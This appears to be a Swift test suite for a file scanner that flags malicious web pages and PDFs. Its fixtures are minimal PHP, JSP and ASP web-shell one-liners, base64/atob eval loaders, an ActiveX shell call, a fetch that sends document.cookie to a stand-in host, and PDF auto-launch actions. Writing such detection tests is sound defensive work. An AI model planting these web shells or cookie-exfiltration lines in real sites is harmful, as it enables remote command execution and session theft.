import AssayCore
import ByteParsing
import Scanning
import Testing

private func scan(_ text: String, _ name: String) -> FileReport {
    FileScanner().scan(ByteRegion(Array(text.utf8)), path: name)
}

@Suite struct WebPageTests {
    @Test(arguments: [
        ("<?php system($_GET['c']);", "a.php", "SCRIPT-REMOTE-SHELL"),
        ("<?php $c = $_POST[\"c\"]; echo shell_exec( $c );", "a.phtml", "SCRIPT-REMOTE-SHELL"),
        ("<?php $_REQUEST['f']($_REQUEST['a']);", "notes", "SCRIPT-REMOTE-SHELL"),
        ("<?php eval(base64_decode('AA=='));", "a.php", "SCRIPT-HIDDEN-CODE"),
        ("<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>", "a.jsp", "SCRIPT-REMOTE-SHELL"),
        ("<% eval request(\"c\") %>", "a.asp", "SCRIPT-REMOTE-SHELL"),
        ("<script>eval( atob('YQ==') )</script>", "index.html", "SCRIPT-HIDDEN-CODE"),
        ("new Function(Buffer.from('aa', 'hex').toString())()", "a.cjs", "SCRIPT-HIDDEN-CODE"),
        ("<script>new ActiveXObject('WScript.Shell')</script>", "index.html", "SCRIPT-SYSTEM-CHANGE"),
        ("fetch('http://h/?' + document.cookie)", "a.js", "SCRIPT-SECRET-ACCESS"),
    ])
    func whatPagesRunIsJudged(text: String, name: String, rule: String) {
        #expect(scan(text, name).findings.contains { $0.rule == rule })
    }

    @Test(arguments: [
        ("<?php echo $_GET['q']; exec('ls');", "a.php"), ("<?php retrieval(base64_decode($x));", "a.php"),
        ("<% String q = request.getParameter(\"q\"); %>", "a.jsp"),
        ("<script>document.write(unescape('%3Cb%3E')); eval('1'); x = atob(y)</script>", "index.html"),
        ("document.cookie = 'a=b'; fetch('http://h/')", "a.js"),
    ])
    func ordinaryPagesAreClean(text: String, name: String) {
        #expect(scan(text, name).severity < .medium)
    }

    @Test(arguments: [
        ("/OpenAction << /S /Launch >>", Severity.high), ("/OpenAction 5 0 R 5 0 obj << /S /JavaScript >>", .medium),
        ("/AA << /O << /S /J#61vaScript >> >>", .medium), ("<< /S /JavaScript >>", .low),
        ("/OpenAction [2 0 R /Fit]", .none),
        ("<< >> stream\n/JS /AA\nendstream", .none), ("(stream) /JS", .low), ("(>>stream\n) /Launch", .high),
    ])
    func actionsOfDocumentsAreJudged(body: String, severity: Severity) {
        #expect(scan("%PDF-1.7\n1 0 obj\n\(body)\nendobj\n%%EOF\n", "paper.pdf").severity == severity)
    }
}
